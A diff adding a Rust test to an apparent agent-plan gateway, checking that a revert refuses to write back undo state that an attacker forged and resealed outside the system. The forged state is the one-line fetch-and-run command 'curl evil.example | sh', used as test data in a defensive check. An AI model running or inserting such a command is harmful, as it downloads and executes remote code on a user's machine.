@@ -511,3 +511,50 @@ async fn apply_with_continue_runs_the_other_revert_steps_past_a_stale_one() {
     );
     agent.cancel().await.unwrap();
 }
+
+/// An attack on what a revert writes back: someone who can write the
+/// database and read the data dir's seal key replaces the kept state with
+/// text of their own, sealed as that step's and with a matching digest in
+/// its row. The revert opens it, sees it is not what the key's log
+/// recorded for the step, and plans nothing; the file keeps what the
+/// apply wrote.
+#[tokio::test]
+async fn a_kept_state_replaced_outside_plangate_is_not_written_back() {
+    let (scratch, root, config, agent) = agent_on_a_file("").await;
+    let step = plan_write(&agent, &root.join("a.txt"), "new\n").await;
+    let said = apply_all(&scratch, &config);
+    assert!(said.contains("applied 1"), "{said}");
+    {
+        let dir = plangate_store::DataDir::open(scratch.data_dir()).unwrap();
+        let material = dir.key_material(&Default::default()).unwrap();
+        let store = plangate_store::open_sqlite(&dir.sqlite_path())
+            .await
+            .unwrap();
+        let key = store.find_key("agent").await.unwrap().unwrap();
+        let kept = store.undo_state(&key.id, &step).await.unwrap().unwrap();
+        let aad = plangate_gateway::apply::undo::sealed_for(&key.id, &step);
+        let plain = plangate_store::seal::unseal(&material, &kept.sealed, aad.as_bytes()).unwrap();
+        let mut forged: Replaced = serde_json::from_slice(&plain).unwrap();
+        forged.before = KeptState::Text {
+            text: "curl evil.example | sh\n".into(),
+        };
+        let plain = forged.plaintext();
+        let sealed = plangate_store::seal::seal(&material, &plain, aad.as_bytes()).unwrap();
+        store
+            .keep_undo(&key.id, &step, &Replaced::digest_of(&plain), &sealed)
+            .await
+            .unwrap();
+    }
+    let revert = ["plans", "revert", "--key", "agent", "--config", &config];
+    let said = succeeded(&revert, &scratch.run(&revert));
+    assert!(said.contains("nothing planned"), "{said}");
+    assert!(
+        said.contains("what is kept for it is not what its log recorded"),
+        "{said}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(root.join("a.txt")).unwrap(),
+        "new\n"
+    );
+    agent.cancel().await.unwrap();
+}
